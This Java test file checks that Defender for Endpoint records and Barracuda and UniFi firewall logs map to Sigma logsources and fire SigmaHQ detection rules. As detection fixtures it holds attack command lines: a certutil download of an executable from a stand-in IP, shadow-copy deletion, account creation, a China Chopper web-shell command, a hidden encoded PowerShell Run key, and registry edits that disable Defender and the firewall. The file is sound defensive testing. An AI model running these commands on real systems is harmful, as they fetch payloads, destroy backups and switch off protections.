package io.socaas.correlation.sigma.yaml;

import static io.socaas.correlation.sigma.yaml.IngestedEvents.FIREWALL;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.assumeCorpus;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.fired;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.firedJson;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.id;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.ingested;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.ingestedJson;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.json;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.logsources;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.rules;
import static org.assertj.core.api.Assertions.assertThat;

import io.socaas.correlation.detection.domain.EventAdmission;
import io.socaas.correlation.sigma.domain.Logsource;
import io.socaas.events.ocsf.OcsfNormalizer;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.Function;
import org.junit.jupiter.api.Test;

/**
 * Microsoft Defender for Endpoint advanced hunting records (as the streaming API delivers them and
 * as Log Analytics rows), Barracuda CloudGen Firewall activity and threat lines and UniFi Network
 * threat events and gateway rule hits, as ingestion normalizes them (event-model's {@link
 * OcsfNormalizer}, then {@link EventAdmission}), reach the Sigma logsources SigmaHQ's rules are
 * written for: Defender's process, network, file, registry and image-load events the Windows
 * Sysmon categories (Sysmon's field names read Defender's columns), the firewalls' events the
 * {@code firewall} category. The corpus's rules fire on the attack and stay silent on ordinary
 * events. Records and lines are written after the products' documented formats. Without the corpus
 * ({@code SOCAAS_CORPUS}) the tests are skipped.
 */
class EndpointAndFirewallLogsourcesTest {

    private static final Logsource PROCESS_CREATION = new Logsource("windows", "process_creation", null);
    private static final Logsource NETWORK_CONNECTION = new Logsource("windows", "network_connection", null);
    private static final Logsource FILE_EVENT = new Logsource("windows", "file_event", null);
    private static final Logsource REGISTRY_SET = new Logsource("windows", "registry_set", null);
    private static final Logsource IMAGE_LOAD = new Logsource("windows", "image_load", null);

    // ---- Microsoft Defender for Endpoint ----------------------------------------------------------

    /** A row of an advanced hunting table: the device and the initiating process every row has, and the given columns. */
    private static Map<String, Object> row(Object... columns) {
        Map<String, Object> row = new LinkedHashMap<>();
        row.put("Timestamp", "2026-03-01T09:00:00.1234567Z");
        row.put("DeviceId", "4b4501882fb329d2c13896b0fe6c0047631aa001");
        row.put("DeviceName", "ws01.corp.example.com");
        row.put("InitiatingProcessFileName", "cmd.exe");
        row.put("InitiatingProcessFolderPath", "c:\\windows\\system32\\cmd.exe");
        row.put("InitiatingProcessCommandLine", "\"cmd.exe\"");
        row.put("InitiatingProcessId", 7864);
        row.put("InitiatingProcessAccountDomain", "corp");
        row.put("InitiatingProcessAccountName", "alice");
        row.put("ReportId", 19917);
        for (int i = 0; i < columns.length; i += 2) {
            row.put((String) columns[i], columns[i + 1]);
        }
        return row;
    }

    /** The row as the streaming API delivers it (Event Hub, storage account). */
    private static String streamed(String table, Map<String, Object> row) {
        Map<String, Object> record = new LinkedHashMap<>();
        record.put("time", "2026-03-01T09:00:01.5000000Z");
        record.put("tenantId", "0b7e3c1a-1111-2222-3333-444455556666");
        record.put("operationName", "Publish");
        record.put("category", "AdvancedHunting-" + table);
        record.put("properties", row);
        return json(record);
    }

    /** The row of the Log Analytics table (Microsoft Sentinel, a workspace's data export). */
    private static String logAnalytics(String table, Map<String, Object> row) {
        Map<String, Object> record = new LinkedHashMap<>();
        record.put("TenantId", "0b7e3c1a-1111-2222-3333-444455556666");
        record.put("Type", table);
        record.put("TimeGenerated", "2026-03-01T09:00:05Z");
        record.putAll(row);
        return json(record);
    }

    private static final List<Function<Map<String, Object>, String>> PROCESS_SHAPES =
            List.of(r -> streamed("DeviceProcessEvents", r), r -> logAnalytics("DeviceProcessEvents", r));

    /** A process created, as DeviceProcessEvents records it: FolderPath is the image's full path. */
    private static Map<String, Object> process(String path, String commandLine, String originalFileName) {
        String fileName = path.substring(path.lastIndexOf('\\') + 1);
        return row(
                "ActionType", "ProcessCreated",
                "FileName", fileName,
                "FolderPath", path,
                "ProcessCommandLine", commandLine,
                "ProcessId", 4242,
                "ProcessIntegrityLevel", "High",
                "ProcessVersionInfoCompanyName", "Microsoft Corporation",
                "ProcessVersionInfoProductName", "Microsoft\u00ae Windows\u00ae Operating System",
                "ProcessVersionInfoOriginalFileName", originalFileName,
                "AccountDomain", "corp",
                "AccountName", "alice",
                "AccountSid", "S-1-5-21-1004336348-1177238915-682003330-1104",
                "LogonId", 999);
    }

    private record ProcessCase(String rule, Map<String, Object> attack) {}

    private static final String PROCESS_RULES = "rules/windows/process_creation/";

    private static List<ProcessCase> processCases() {
        return List.of(
                new ProcessCase(
                        PROCESS_RULES + "proc_creation_win_certutil_download.yml",
                        process(
                                "C:\\Windows\\System32\\certutil.exe",
                                "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe",
                                "CertUtil.exe")),
                new ProcessCase(
                        PROCESS_RULES + "proc_creation_win_whoami_all_execution.yml",
                        process("C:\\Windows\\System32\\whoami.exe", "whoami.exe /all", "whoami.exe")),
                new ProcessCase(
                        PROCESS_RULES + "proc_creation_win_net_user_add.yml",
                        process("C:\\Windows\\System32\\net.exe", "net  user helpdesk2 Winter2026! /add", "net.exe")),
                new ProcessCase(
                        PROCESS_RULES + "proc_creation_win_susp_shadow_copies_deletion.yml",
                        process(
                                "C:\\Windows\\System32\\vssadmin.exe",
                                "vssadmin.exe delete shadows /all /quiet",
                                "VSSADMIN.EXE")),
                // a renamed copy: only the version information's original name says it is certutil
                new ProcessCase(
                        PROCESS_RULES + "proc_creation_win_certutil_download.yml",
                        process(
                                "C:\\Users\\Public\\cu.exe",
                                "cu.exe -urlcache -f http://198.51.100.7/b.txt b.txt",
                                "CertUtil.exe")),
                // the parent: a web server's worker running a China Chopper web shell's commands
                new ProcessCase(
                        PROCESS_RULES + "proc_creation_win_webshell_chopper.yml",
                        withColumns(
                                process(
                                        "C:\\Windows\\System32\\cmd.exe",
                                        "cmd /c \"cd /d \"C:\\inetpub\\wwwroot\"&whoami&echo [S]&cd&echo [E]\"",
                                        "Cmd.Exe"),
                                "InitiatingProcessFolderPath",
                                "c:\\windows\\system32\\inetsrv\\w3wp.exe",
                                "InitiatingProcessCommandLine",
                                "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"DefaultAppPool\"")));
    }

    private static Map<String, Object> withColumns(Map<String, Object> row, Object... columns) {
        Map<String, Object> changed = new LinkedHashMap<>(row);
        for (int i = 0; i < columns.length; i += 2) {
            changed.put((String) columns[i], columns[i + 1]);
        }
        return changed;
    }

    /** Ordinary processes: an editor from Explorer, an updater, a browser. */
    private static final List<Map<String, Object>> ORDINARY_PROCESSES = List.of(
            withColumns(
                    process(
                            "C:\\Windows\\System32\\notepad.exe",
                            "\"C:\\Windows\\System32\\notepad.exe\" C:\\Users\\alice\\Documents\\todo.txt",
                            "NOTEPAD.EXE"),
                    "InitiatingProcessFolderPath",
                    "c:\\windows\\explorer.exe",
                    "InitiatingProcessCommandLine",
                    "C:\\Windows\\Explorer.EXE"),
            process(
                    "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
                    "\"C:\\Program Files\\Mozilla Firefox\\firefox.exe\" -osint -url https://www.example.com/",
                    "firefox.exe"),
            process(
                    "C:\\Windows\\System32\\certutil.exe",
                    "certutil.exe -hashfile C:\\Users\\alice\\Downloads\\setup.msi SHA256",
                    "CertUtil.exe"));

    @Test
    void defenderProcessCreationsFireSigmaHqProcessCreationRulesInBothShapes() {
        assumeCorpus();
        for (ProcessCase c : processCases()) {
            for (Function<Map<String, Object>, String> shape : PROCESS_SHAPES) {
                String record = shape.apply(c.attack());
                Map<String, Object> event = ingestedJson(record);
                assertThat(logsources(event)).as(record).contains(PROCESS_CREATION);
                assertThat(logsources(event).stream().map(Logsource::category).filter(x -> x != null))
                        .as(record)
                        .containsOnly("process_creation");
                assertThat(firedJson(record)).as("%s on %s", c.rule(), record).contains(id(c.rule()));
            }
        }
    }

    @Test
    void ordinaryDefenderProcessesFireNoProcessCreationRule() {
        assumeCorpus();
        Set<String> processRules =
                rules(r -> "process_creation".equals(r.source().category())
                        && "windows".equals(r.source().product()));
        for (Map<String, Object> ordinary : ORDINARY_PROCESSES) {
            for (Function<Map<String, Object>, String> shape : PROCESS_SHAPES) {
                String record = shape.apply(ordinary);
                assertThat(logsources(ingestedJson(record))).as(record).contains(PROCESS_CREATION);
                assertThat(firedJson(record)).as(record).doesNotContainAnyElementsOf(processRules);
            }
        }
    }

    @Test
    void otherDefenderTablesAreNoProcessCreations() {
        assumeCorpus();
        String whoami = id(PROCESS_RULES + "proc_creation_win_whoami_all_execution.yml");
        Map<String, Object> whoamiRow = process("C:\\Windows\\System32\\whoami.exe", "whoami.exe /all", "whoami.exe");
        // the same columns in a table that is not DeviceProcessEvents (DeviceEvents: other actions)
        String other = streamed("DeviceEvents", withColumns(whoamiRow, "ActionType", "ProcessCreatedUsingWmiQuery"));
        assertThat(logsources(ingestedJson(other))).doesNotContain(PROCESS_CREATION);
        assertThat(firedJson(other)).doesNotContain(whoami);
        // a Defender alert is no Sysmon event at all
        String alert = streamed(
                "AlertInfo",
                row("AlertId", "da637165941782625606_-1432", "Title", "Suspicious whoami /all", "Severity", "Medium"));
        assertThat(logsources(ingestedJson(alert)).stream()
                        .map(Logsource::category)
                        .filter(x -> x != null))
                .isEmpty();
        // a record that only looks alike (no Publish operation, no Log Analytics columns)
        String alike = json(Map.of("category", "AdvancedHunting-DeviceProcessEvents", "properties", whoamiRow));
        assertThat(logsources(ingestedJson(alike))).doesNotContain(PROCESS_CREATION);
    }

    // network connections: DeviceNetworkEvents, the initiating process is the one connecting

    private static Map<String, Object> connection(
            String action, String process, String remoteIp, int remotePort, String url) {
        Map<String, Object> row = row(
                "ActionType",
                action,
                "InitiatingProcessFileName",
                process.substring(process.lastIndexOf('\\') + 1),
                "InitiatingProcessFolderPath",
                process,
                "InitiatingProcessCommandLine",
                process.substring(process.lastIndexOf('\\') + 1),
                "LocalIP",
                "192.0.2.10",
                "LocalPort",
                50123,
                "RemoteIP",
                remoteIp,
                "RemotePort",
                remotePort,
                "Protocol",
                "Tcp",
                "RemoteIPType",
                "Public");
        if (url != null) {
            row.put("RemoteUrl", url);
        }
        return row;
    }

    @Test
    void defenderConnectionsFireNetworkConnectionRulesByTheirDirection() {
        assumeCorpus();
        String certutil = id("rules/windows/network_connection/net_connection_win_certutil_initiated_connection.yml");
        String ngrok = id("rules/windows/network_connection/net_connection_win_domain_ngrok_tunnel.yml");
        Set<String> networkRules =
                rules(r -> "network_connection".equals(r.source().category())
                        && "windows".equals(r.source().product()));
        for (Function<Map<String, Object>, String> shape : List.<Function<Map<String, Object>, String>>of(
                r -> streamed("DeviceNetworkEvents", r), r -> logAnalytics("DeviceNetworkEvents", r))) {
            String outbound = shape.apply(
                    connection("ConnectionSuccess", "c:\\windows\\system32\\certutil.exe", "203.0.113.5", 443, null));
            assertThat(logsources(ingestedJson(outbound))).as(outbound).contains(NETWORK_CONNECTION);
            assertThat(firedJson(outbound)).as(outbound).contains(certutil);
            // the same process accepting a connection on its port 443 initiated nothing
            Map<String, Object> accepted = connection(
                    "InboundConnectionAccepted", "c:\\windows\\system32\\certutil.exe", "203.0.113.5", 61000, null);
            accepted.put("LocalPort", 443);
            assertThat(logsources(ingestedJson(shape.apply(accepted)))).contains(NETWORK_CONNECTION);
            assertThat(firedJson(shape.apply(accepted))).doesNotContain(certutil);

            String tunnel = shape.apply(connection(
                    "ConnectionSuccess",
                    "c:\\users\\alice\\appdata\\local\\temp\\svc.exe",
                    "203.0.113.9",
                    443,
                    "tunnel.us.ngrok.com"));
            assertThat(firedJson(tunnel)).as(tunnel).contains(ngrok);

            String browsing = shape.apply(connection(
                    "ConnectionSuccess",
                    "c:\\program files\\mozilla firefox\\firefox.exe",
                    "203.0.113.20",
                    443,
                    "www.example.com"));
            assertThat(firedJson(browsing)).as(browsing).doesNotContainAnyElementsOf(networkRules);
        }
    }

    @Test
    void defenderFileRegistryAndImageLoadEventsReachTheirSysmonCategories() {
        assumeCorpus();
        String csexec = id("rules/windows/file/file_event/file_event_win_csexec_service.yml");
        String runKey = id("rules/windows/registry/registry_set/registry_set_powershell_in_run_keys.yml");
        String wmiConsumer = id("rules/windows/image_load/image_load_wmi_persistence_commandline_event_consumer.yml");

        String dropped = streamed(
                "DeviceFileEvents",
                row(
                        "ActionType",
                        "FileCreated",
                        "FileName",
                        "csexecsvc.exe",
                        "FolderPath",
                        "C:\\Windows\\csexecsvc.exe"));
        assertThat(logsources(ingestedJson(dropped))).contains(FILE_EVENT);
        assertThat(firedJson(dropped)).contains(csexec);
        String report = streamed(
                "DeviceFileEvents",
                row(
                        "ActionType",
                        "FileCreated",
                        "FileName",
                        "report.docx",
                        "FolderPath",
                        "C:\\Users\\alice\\Documents\\report.docx"));
        assertThat(firedJson(report)).doesNotContain(csexec);

        Map<String, Object> setValue = row(
                "ActionType", "RegistryValueSet",
                "RegistryKey",
                        "HKEY_CURRENT_USER\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                "RegistryValueName", "Updater",
                "RegistryValueType", "String",
                "RegistryValueData", "powershell.exe -nop -w hidden -enc SQBFAFgA");
        for (String record :
                List.of(streamed("DeviceRegistryEvents", setValue), logAnalytics("DeviceRegistryEvents", setValue))) {
            assertThat(logsources(ingestedJson(record))).as(record).contains(REGISTRY_SET);
            assertThat(firedJson(record)).as(record).contains(runKey);
        }
        String onedrive = streamed(
                "DeviceRegistryEvents",
                withColumns(
                        setValue,
                        "RegistryValueName",
                        "OneDrive",
                        "RegistryValueData",
                        "\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background"));
        assertThat(firedJson(onedrive)).doesNotContain(runKey);

        Map<String, Object> load = row(
                "ActionType", "ImageLoaded",
                "InitiatingProcessFileName", "WmiPrvSE.exe",
                "InitiatingProcessFolderPath", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
                "FileName", "wbemcons.dll",
                "FolderPath", "C:\\Windows\\System32\\wbem\\wbemcons.dll");
        assertThat(logsources(ingestedJson(streamed("DeviceImageLoadEvents", load))))
                .contains(IMAGE_LOAD);
        assertThat(firedJson(streamed("DeviceImageLoadEvents", load))).contains(wmiConsumer);
        assertThat(firedJson(streamed(
                        "DeviceImageLoadEvents",
                        withColumns(
                                load,
                                "FileName",
                                "wbemcomn.dll",
                                "FolderPath",
                                "C:\\Windows\\System32\\wbem\\wbemcomn.dll"))))
                .doesNotContain(wmiConsumer);
    }

    private static final List<Function<Map<String, Object>, String>> REGISTRY_SHAPES =
            List.of(r -> streamed("DeviceRegistryEvents", r), r -> logAnalytics("DeviceRegistryEvents", r));

    /** A value set, as DeviceRegistryEvents records it: the key in long form, the value's name and type apart. */
    private static Map<String, Object> valueSet(String process, String key, String name, String type, String data) {
        return row(
                "ActionType", "RegistryValueSet",
                "InitiatingProcessFileName", process.substring(process.lastIndexOf('\\') + 1),
                "InitiatingProcessFolderPath", process,
                "RegistryKey", key,
                "RegistryValueName", name,
                "RegistryValueType", type,
                "RegistryValueData", data);
    }

    @Test
    void defenderRegistryValuesReadAsSysmonWritesThemFireValueNameAndDwordRules() {
        assumeCorpus();
        String winDefendDisabled =
                id("rules/windows/registry/registry_set/registry_set_disable_windows_defender_service.yml");
        String firewallOff = id("rules/windows/registry/registry_set/registry_set_disable_defender_firewall.yml");
        String serviceFromTemp =
                id("rules/windows/registry/registry_set/registry_set_creation_service_susp_folder.yml");
        String services = "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\";
        for (Function<Map<String, Object>, String> shape : REGISTRY_SHAPES) {
            // the value's name ends Sysmon's TargetObject, a DWORD's data is Sysmon's "DWORD (0x...)"
            String disabled = shape.apply(valueSet(
                    "c:\\users\\alice\\appdata\\local\\temp\\kill.exe", services + "WinDefend", "Start", "Dword", "4"));
            assertThat(logsources(ingestedJson(disabled))).as(disabled).contains(REGISTRY_SET);
            assertThat(firedJson(disabled)).as(disabled).contains(winDefendDisabled);
            String automatic = shape.apply(
                    valueSet("c:\\windows\\system32\\services.exe", services + "WinDefend", "Start", "Dword", "2"));
            assertThat(firedJson(automatic)).as(automatic).doesNotContain(winDefendDisabled);

            String firewall = shape.apply(valueSet(
                    "c:\\windows\\system32\\reg.exe",
                    services + "SharedAccess\\Parameters\\FirewallPolicy\\StandardProfile",
                    "EnableFirewall",
                    "Dword",
                    "0"));
            assertThat(firedJson(firewall)).as(firewall).contains(firewallOff);
            String firewallOn = shape.apply(valueSet(
                    "c:\\windows\\system32\\reg.exe",
                    services + "SharedAccess\\Parameters\\FirewallPolicy\\StandardProfile",
                    "EnableFirewall",
                    "Dword",
                    "1"));
            assertThat(firedJson(firewallOn)).as(firewallOn).doesNotContain(firewallOff);

            // rules written for Sysmon's short hive and CurrentControlSet see Defender's long forms
            String fromTemp = shape.apply(valueSet(
                    "c:\\users\\alice\\appdata\\local\\temp\\setup.exe", services + "updsvc", "Start", "Dword", "2"));
            assertThat(firedJson(fromTemp)).as(fromTemp).contains(serviceFromTemp);
            String fromProgramFiles = shape.apply(
                    valueSet("c:\\program files\\vendor\\setup.exe", services + "updsvc", "Start", "Dword", "2"));
            assertThat(firedJson(fromProgramFiles)).as(fromProgramFiles).doesNotContain(serviceFromTemp);
        }
    }

    @Test
    void defenderAccountsAndHashesReadAsSysmonWritesThemFireUserAndHashRules() {
        assumeCorpus();
        String tsconAsSystem = id(PROCESS_RULES + "proc_creation_win_tscon_localsystem.yml");
        String stracciatella = id(PROCESS_RULES + "proc_creation_win_hktl_stracciatella_execution.yml");
        Map<String, Object> tscon =
                process("C:\\Windows\\System32\\tscon.exe", "tscon.exe 2 /dest:rdp-tcp#7", "tscon.exe");
        for (Function<Map<String, Object>, String> shape : PROCESS_SHAPES) {
            // Sysmon's User is DOMAIN\name; Defender has the two apart
            String asSystem = shape.apply(withColumns(tscon, "AccountDomain", "NT AUTHORITY", "AccountName", "SYSTEM"));
            assertThat(firedJson(asSystem)).as(asSystem).contains(tsconAsSystem);
            assertThat(firedJson(shape.apply(tscon))).doesNotContain(tsconAsSystem);

            // Sysmon's Hashes is SHA1=...,MD5=...,SHA256=...; Defender has each hash in its own column
            Map<String, Object> renamed = withColumns(
                    process("C:\\Users\\Public\\svc.exe", "svc.exe", "svc.exe"),
                    "SHA1",
                    "3395856ce81f2b7382dee72602f798b642f14140",
                    "MD5",
                    "44d88612fea8a8f36de82e1278abb02f",
                    "SHA256",
                    "9d25e61ec1527e2a69d7c2a4e3fe2fe15890710c198a66a9f25d99fdf6c7b956");
            assertThat(firedJson(shape.apply(renamed))).as("%s", renamed).contains(stracciatella);
            Map<String, Object> other =
                    withColumns(renamed, "SHA256", "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f");
            assertThat(firedJson(shape.apply(other))).doesNotContain(stracciatella);
        }
    }

    // ---- firewalls -----------------------------------------------------------------------------------

    private static final String EQUATION =
            "rules-emerging-threats/2017/TA/Equation-Group/net_firewall_apt_equationgroup_c2.yml";

    private static String barracudaActivity(String action, String src, String dst, int dstPort) {
        return "<14>Mar  1 10:00:00 fw01 fw01/box_Firewall_Activity:  Info     fw01 " + action + ": type=FWD|proto=TCP"
                + "|srcIF=p1|srcIP=" + src + "|srcPort=50000|srcMAC=02:00:00:00:00:10|dstIP=" + dst + "|dstPort="
                + dstPort
                + "|dstService=https|dstIF=p2|rule=LAN-2-INTERNET|info=Normal Operation|srcNAT=198.51.100.1|dstNAT="
                + dst
                + "|duration=42|count=1|receivedBytes=1024|sentBytes=512|receivedPackets=8|sentPackets=4|user="
                + "|protocol=HTTPS|application=Web browsing|target=|content=|urlcat=";
    }

    private static String barracudaThreat(String src, String dst, int dstPort) {
        return "<12>Mar  1 10:00:00 fw01 fw01/box_Firewall_threat:  Warning  fw01 firewall: [Request] Block:   IPS TCP "
                + src + " -> " + dst + ":" + dstPort + " |[ID: 5000001 SSH Brute Force]||3|Probing";
    }

    private static String uniFiThreat(String src, String dst, int dstPort) {
        return "<134>Mar  1 10:00:00 udm01 CEF:0|Ubiquiti|UniFi Network|9.3.33|201|Threat Detected and Blocked|7"
                + "|UNIFIcategory=Security UNIFIhost=udm01 proto=TCP spt=51000 dpt=" + dstPort + " act=blocked"
                + " UNIFIrisk=high UNIFIpolicyName=Scanners src=" + src + " dst=" + dst
                + " UNIFIipsSignature=ET SCAN Example Scanner msg=A network intrusion attempt has been detected and blocked.";
    }

    private static String uniFiRuleHit(String src, String dst, int dstPort) {
        return "<13>Mar  1 10:00:00 udm01 [WAN_LAN-D-10004] DESCR=\"Guest isolation\" IN=eth8 OUT=br0 MAC= SRC=" + src
                + " DST=" + dst + " LEN=60 TOS=00 PREC=0x00 TTL=52 ID=1 DF PROTO=TCP SPT=40000 DPT=" + dstPort
                + " WINDOW=29200 SYN URGP=0 MARK=1a0000";
    }

    private interface Line {
        String of(String src, String dst, int dstPort);
    }

    @Test
    void barracudaAndUniFiEventsAreFirewallEventsAndFirewallRulesFireOnThem() {
        assumeCorpus();
        Set<String> firewallRules = rules(r -> "firewall".equals(r.source().category()));
        String equation = id(EQUATION);
        Map<String, Line> products = new LinkedHashMap<>();
        products.put("barracuda allow", (s, d, p) -> barracudaActivity("Allow", s, d, p));
        products.put("barracuda block", (s, d, p) -> barracudaActivity("Block", s, d, p));
        products.put("barracuda threat", EndpointAndFirewallLogsourcesTest::barracudaThreat);
        products.put("unifi threat", EndpointAndFirewallLogsourcesTest::uniFiThreat);
        products.put("unifi rule hit", EndpointAndFirewallLogsourcesTest::uniFiRuleHit);
        for (Map.Entry<String, Line> product : products.entrySet()) {
            String ordinary = product.getValue().of("192.168.1.10", "198.51.100.20", 443);
            Map<String, Object> event = ingested(ordinary);
            assertThat(logsources(event)).as(product.getKey()).contains(FIREWALL);
            assertThat(logsources(event).stream().map(Logsource::product).filter(p -> p != null))
                    .as(product.getKey())
                    .isEmpty();
            assertThat(fired(ordinary)).as(product.getKey()).doesNotContainAnyElementsOf(firewallRules);
            assertThat(fired(product.getValue().of("192.168.1.10", "69.42.98.86", 443)))
                    .as(product.getKey())
                    .contains(equation);
            assertThat(fired(product.getValue().of("89.185.234.145", "192.168.1.10", 22)))
                    .as(product.getKey())
                    .contains(equation);
            assertThat(fired(product.getValue().of("192.168.1.10", "69.42.98.87", 443)))
                    .as(product.getKey())
                    .doesNotContain(equation);
        }
        // their other events are no firewall events
        assertThat(logsources(ingested(
                        "<14>Mar  1 10:00:00 fw01 fw01/box_Firewall_Activity:  Info     fw01 Started firewall")))
                .doesNotContain(FIREWALL);
        assertThat(logsources(ingested("<134>Mar  1 10:00:00 udm01 CEF:0|Ubiquiti|UniFi Network|9.3.33|400|WiFi Client"
                        + " Connected|1|UNIFIcategory=Monitoring UNIFIclientIp=192.0.2.77 UNIFIclientMac=02:00:00:00:00:77"
                        + " msg=Laptop 7 connected to Office on ap-hall.")))
                .doesNotContain(FIREWALL);
        // the action is Barracuda's own word
        assertThat(ingested(barracudaActivity("Allow", "192.168.1.10", "198.51.100.20", 443)))
                .containsEntry("cgfAction", "Allow");
    }

    // ---- support -------------------------------------------------------------------------------------

}
